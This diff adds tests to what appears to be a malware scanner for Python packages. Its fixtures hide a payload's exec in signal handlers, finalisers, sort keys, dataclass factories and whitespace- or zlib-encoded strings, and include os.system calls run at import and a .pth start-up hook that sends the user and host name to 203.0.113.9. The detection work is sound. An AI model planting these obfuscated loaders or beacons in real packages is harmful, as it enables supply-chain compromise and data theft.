@@ -334,6 +334,44 @@ AT_IMPORT = {
         "import base64\nclass D:\n    def run(self, s):\n        return base64.b64decode(s)\n"
         "exec(D().run(" + repr(__import__("base64").b64encode(_CODE.encode()).decode()) + "))\n"
     ),
+    "handler of a signal raised right after": (
+        f"import signal\ndef _h(n, f):\n    exec({_CODE!r})\n"
+        "signal.signal(signal.SIGALRM, _h)\nsignal.alarm(5)\n"
+    ),
+    "finaliser of an object": (
+        f"import weakref\nclass T:\n    pass\ndef _fin():\n    exec({_CODE!r})\n"
+        "t = T()\nweakref.finalize(t, _fin)\n"
+    ),
+    "sort key": f"def _k(x):\n    exec({_CODE!r})\n    return x\nsorted([2, 1], key=_k)\n",
+    "default factory of a dataclass made at import": (
+        "from dataclasses import dataclass, field\n"
+        f"def _boot():\n    exec({_CODE!r})\n    return []\n"
+        "@dataclass\nclass Config:\n    items: list = field(default_factory=_boot)\nCONFIG = Config()\n"
+    ),
+    "factory of a defaultdict": (
+        f"import collections\ndef _mk():\n    exec({_CODE!r})\n    return 0\n"
+        "d = collections.defaultdict(_mk)\nd['x']\n"
+    ),
+    "exec of bits spelled in spaces and tabs": (
+        "P = "
+        + repr("".join(format(b, "08b") for b in _CODE.encode()).replace("0", " ").replace("1", "\t"))
+        + "\nbits = P.replace(' ', '0').replace('\\t', '1')\n"
+        "exec(bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)))\n"
+    ),
+    "exec in a helper handed decoded text": (
+        "import base64\ndef run(c):\n    exec(c)\n"
+        "run(base64.b64decode(" + repr(__import__("base64").b64encode(_CODE.encode()).decode()) + "))\n"
+    ),
+    "exec in a static method called by keyword": (
+        "import zlib\nclass T:\n    def execute(code=str):\n        return exec(code)\n"
+        "T.execute(code=zlib.decompress("
+        + repr(__import__("zlib").compress(_CODE.encode()))
+        + ").decode())\n"
+    ),
+    "decompress named by a list join": (
+        "D = getattr(__import__('zlib'), ''.join(['de', 'com', 'press']))\n"
+        "exec(D(" + repr(__import__("zlib").compress(_CODE.encode())) + "))\n"
+    ),
     "download run by a new interpreter": (
         "import subprocess, sys, urllib.request\n"
         "code = urllib.request.urlopen('https://x.invalid/s.py').read().decode()\n"
@@ -540,3 +578,63 @@ def test_a_dropper_split_into_a_helper_module_that_setup_imports_is_install_time
         "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
     }
     assert analyze_bytes(make_sdist(files), "demo-1.0.tar.gz").result.verdict is Verdict.CLEAN
+
+
+@pytest.mark.parametrize(
+    "init",
+    [
+        "from .env import prepare\ntry:\n    prepare()\nexcept Exception:\n    pass\n",
+        "from . import env\nenv.prepare()\n",
+        "import demo.env as env\nstate = env.prepare()\n",
+        "from .env import Boot\nBoot()\n",
+    ],
+)
+def test_a_helper_module_that_the_package_calls_as_it_loads_runs_at_import(init: str) -> None:
+    """``__init__.py`` calls a function of a sibling module at its top level: that function's
+    code runs at every import of the package, not when a user calls it."""
+    env = (
+        f"import os\ndef prepare():\n    os.system({COMMAND})\n"
+        f"class Boot:\n    def __init__(self):\n        os.system({COMMAND})\n"
+    )
+    files: dict[str, bytes | str] = {"demo/__init__.py": init, "demo/env.py": env}
+    result = analyze_bytes(make_wheel(files), "demo-1.0-py3-none-any.whl").result
+    assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
+
+
+@pytest.mark.parametrize(
+    "init",
+    [
+        "from .env import prepare\ndef main():\n    prepare()\n",
+        "from .env import prepare\nif __name__ == '__main__':\n    prepare()\n",
+        "from .env import prepare\nclass K:\n    def go(self):\n        prepare()\n",
+        "from .env import prepare\n__all__ = ['prepare']\n",
+    ],
+)
+def test_a_helper_the_package_only_hands_on_stays_run_time(init: str) -> None:
+    env = f"import os\ndef prepare():\n    os.system({COMMAND})\n"
+    files: dict[str, bytes | str] = {"demo/__init__.py": init, "demo/env.py": env}
+    result = analyze_bytes(make_wheel(files), "demo-1.0-py3-none-any.whl").result
+    assert result.verdict is not Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
+    assert {f.stage for f in result.findings} <= {Stage.RUNTIME}
+
+
+def test_a_module_a_start_up_pth_file_imports_runs_at_start_up() -> None:
+    """``import _hook; _hook.go()`` in a ``.pth`` file: the interpreter runs that line, and so the
+    module it imports, at every start-up; the module's beacon weighs as start-up code."""
+    hook = (
+        "import getpass, socket, urllib.request\n"
+        "def go():\n"
+        "    info = {'u': getpass.getuser(), 'h': socket.gethostname()}\n"
+        "    urllib.request.urlopen('http://203.0.113.9/b?' + str(info))\n"
+    )
+    files: dict[str, bytes | str] = {
+        "demo_hook.pth": "import _demo_hook; _demo_hook.go()\n",
+        "_demo_hook.py": hook,
+        "demo/__init__.py": "",
+    }
+    result = analyze_bytes(make_wheel(files), "demo-1.0-py3-none-any.whl").result
+    assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
+    assert any(f.stage is Stage.STARTUP and (f.path or "").endswith("_demo_hook.py") for f in result.findings)
+    files["demo_hook.pth"] = "demo_extra\n"  # a path entry imports nothing
+    result = analyze_bytes(make_wheel(files), "demo-1.0-py3-none-any.whl").result
+    assert result.verdict is not Verdict.MALICIOUS
